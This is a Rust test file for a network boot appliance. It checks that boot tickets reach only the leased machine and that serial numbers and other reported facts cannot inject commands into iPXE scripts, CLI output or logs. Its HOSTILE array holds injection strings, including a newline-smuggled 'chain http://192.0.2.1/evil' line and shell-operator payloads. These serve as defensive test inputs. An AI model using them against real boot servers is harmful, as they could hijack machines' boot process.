//! Boot scripts: who is given a ticket, and what of a machine's own words gets into a script.

use crate::support::agent::{Key, report};
use crate::support::machine::{client, get, machine, power_on, script, words};
use crate::support::{Appliance, CARD, STRANGER, WHOLE};
use tests_sim::dhcp::{Machine, Speaker};
use tests_sim::{Outcome, Patience, boot};

/// What somebody would put where a serial number belongs.
const HOSTILE: [&str; 9] = [
    "x\nshell",
    "x\r\nchain http://192.0.2.1/evil\r\n",
    "${net0/mac} ${next-server}",
    "a || shell",
    "a && shell ; shell",
    "a # shell",
    "\u{1b}[2J\u{2028}shell\0",
    "{{ ticket }}{% include 'discover.ipxe' %}",
    "%0ashell%0d%0a${shell}",
];

fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

#[test]
fn a_ticket_goes_to_nobody_but_the_address_of_its_machine() {
    let mut appliance = Appliance::start();
    let before = appliance.metrics();
    let (victim, thief) = (machine(400), machine(401));
    appliance.inside(|| {
        let mut client = client();
        let leased = client.lease(&victim.running(Speaker::Ipxe)).unwrap();
        let thiefs = client.lease(&thief.running(Speaker::Ipxe)).unwrap();
        for from in [thiefs.address, STRANGER, std::net::Ipv4Addr::new(10, 77, 128, 250)] {
            let refused = script(victim.mac, from);
            assert!(words(&refused).is_empty() && !refused.contains("ticket="), "{from} was given a ticket:\n{refused}");
            assert!(refused.contains("gets no boot script now"), "{refused}");
        }
        assert!(words(&script(machine(402).mac, STRANGER)).is_empty(), "a machine that did no DHCP was given a ticket");
        // The owner gets it, gets the same again, and the thief never.
        let own = words(&script(victim.mac, leased.address));
        assert_eq!(own["mac"], victim.mac.to_string());
        assert_eq!(words(&script(victim.mac, leased.address))["ticket"], own["ticket"]);
        assert!(words(&script(victim.mac, thiefs.address)).is_empty());
        let thiefs = words(&script(thief.mac, thiefs.address));
        assert_ne!(thiefs["ticket"], own["ticket"]);
        assert_ne!(thiefs["boot"], own["boot"]);
    });
    appliance.assert_counted(&before, "boot_http_events", &["tickets_refused"]);
    let explained = appliance.get(&format!("/api/v1/explain/{}", victim.mac)).to_string();
    assert!(explained.contains("but the machine holds 10.77.128."), "explain shows who tried: {explained}");
    appliance.assert_good_node_is_served();
}

#[test]
fn what_a_query_says_cannot_add_to_a_script() {
    let mut appliance = Appliance::start();
    let before = appliance.metrics();
    let machine = machine(410);
    appliance.inside(|| {
        let lease = client().lease(&machine.running(Speaker::Ipxe)).unwrap();
        let shape = |query: &str| {
            let response = get(lease.address, &format!("/ipxe?mac={}{query}", machine.mac));
            assert_eq!(response.status, 200, "{query}");
            response.text()
        };
        let plain = shape("&serial=S1");
        for hostile in HOSTILE {
            for field in ["serial", "uuid", "arch", "platform", "asset", "hostname"] {
                let text = shape(&format!("&{field}={}", escaped(hostile)));
                // But for the sentence that names the serial, nothing may differ.
                let different: Vec<_> = text.lines().zip(plain.lines()).filter(|(a, b)| a != b).map(|(a, _)| a).collect();
                assert_eq!(text.lines().count(), plain.lines().count(), "{field} {hostile:?}:\n{text}");
                assert!(different.iter().all(|line| line.starts_with("echo Overture: machine ")), "{field} {hostile:?}: {different:?}");
                let marks = different.iter().any(|line| line.contains(['$', '{', '|', '&', ';', '#']) || !line.is_ascii());
                assert!(!marks && !text.contains(|c: char| c.is_control() && c != '\n'), "{field} {hostile:?}:\n{text}");
            }
        }
        for query in [
            "",
            "mac=",
            "mac=%0ashell",
            "mac=ff:ff:ff:ff:ff:ff",
            "mac=01:00:5e:00:00:01",
            "mac=52:54:00:00:00:01%0ashell",
            "mac=${mac}",
            "x=1",
        ] {
            let response = get(lease.address, &format!("/ipxe?{query}"));
            assert_eq!(response.status, 400, "{query}");
            assert!(!response.text().contains("\nshell") && !response.text().starts_with("#!ipxe"), "{query}: {}", response.text());
        }
    });
    appliance.assert_counted(&before, "boot_http_events", &["malformed_asks"]);
    appliance.assert_good_node_is_served();
}

#[test]
fn a_machine_with_a_hostile_serial_boots_like_any_other() {
    let mut appliance = Appliance::start();
    appliance.inside(|| {
        for hostile in &HOSTILE[..6] {
            let machine = Machine { serial: (*hostile).to_owned(), speaker: Speaker::Ipxe, ..machine(WHOLE) };
            let booted = boot(CARD, &machine, Patience::default()).unwrap();
            assert!(matches!(booted.outcome, Outcome::Ramdisk { .. }), "{hostile:?}: {:?}\n{:?}", booted.outcome, booted.scripts);
        }
    });
    appliance.assert_good_node_is_served();
}

#[test]
fn what_was_reported_is_harmless_in_later_scripts_lists_and_explanations() {
    let mut appliance = Appliance::start();
    let key = Key::fresh();
    let ids: Vec<String> = appliance.inside(|| {
        let reports = HOSTILE.iter().zip(420..).map(|(hostile, number)| {
            let running = crate::support::machine::power_on_with(number, &key);
            let mut body = report(&running.machine, &running.agent.boot, 1);
            for field in ["serial", "manufacturer", "product", "version", "sku", "family"] {
                body["facts"]["system"][field] = (*hostile).into();
            }
            body["facts"]["cpu"]["model"] = (*hostile).into();
            body["facts"]["kernel"] = serde_json::json!({ "release": hostile });
            body["facts"][*hostile] = serde_json::json!({ (*hostile): hostile });
            body["gaps"] = serde_json::json!([{ "path": hostile, "reason": hostile }]);
            let answer = running.agent.send("POST", "/report", body.to_string().as_bytes()).unwrap();
            assert_eq!(answer.status, 200, "{hostile:?}: {}", answer.text());
            answer.json()["node"].as_str().unwrap().to_owned()
        });
        reports.collect()
    });
    appliance.inside(|| {
        for number in 420..420 + HOSTILE.len() as u32 {
            let text = {
                let again = power_on(number);
                script(again.machine.mac, again.lease.address)
            };
            let commands = text.lines().map(|line| line.split(' ').next().unwrap_or_default());
            let known = ["#!ipxe", "echo", "imgfree", "kernel", "initrd", "boot", "sleep", "chain", "goto"];
            let foreign: Vec<_> = commands.filter(|word| !known.contains(word) && !word.starts_with(':')).collect();
            assert_eq!(foreign, [""; 0], "{text}");
            assert!(!text.contains(['$', '{']), "{text}");
        }
    });
    let shows = |arguments: &[&str]| {
        let shown = appliance.cli(arguments);
        assert!(shown.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&shown.stderr));
        let text = String::from_utf8_lossy(&shown.stdout).into_owned();
        let raw = text.chars().find(|c| (c.is_control() && *c != '\n') || *c == '\u{2028}');
        assert_eq!(raw, None, "{arguments:?}:\n{text}");
    };
    shows(&["nodes", "list"]);
    shows(&["leases"]);
    for id in &ids {
        shows(&["nodes", "show", id]);
        shows(&["explain", id]);
    }
    assert!(!appliance.log_bytes().iter().any(|byte| byte.is_ascii_control() && *byte != b'\n'), "{}", appliance.log());
    appliance.assert_good_node_is_served();
}
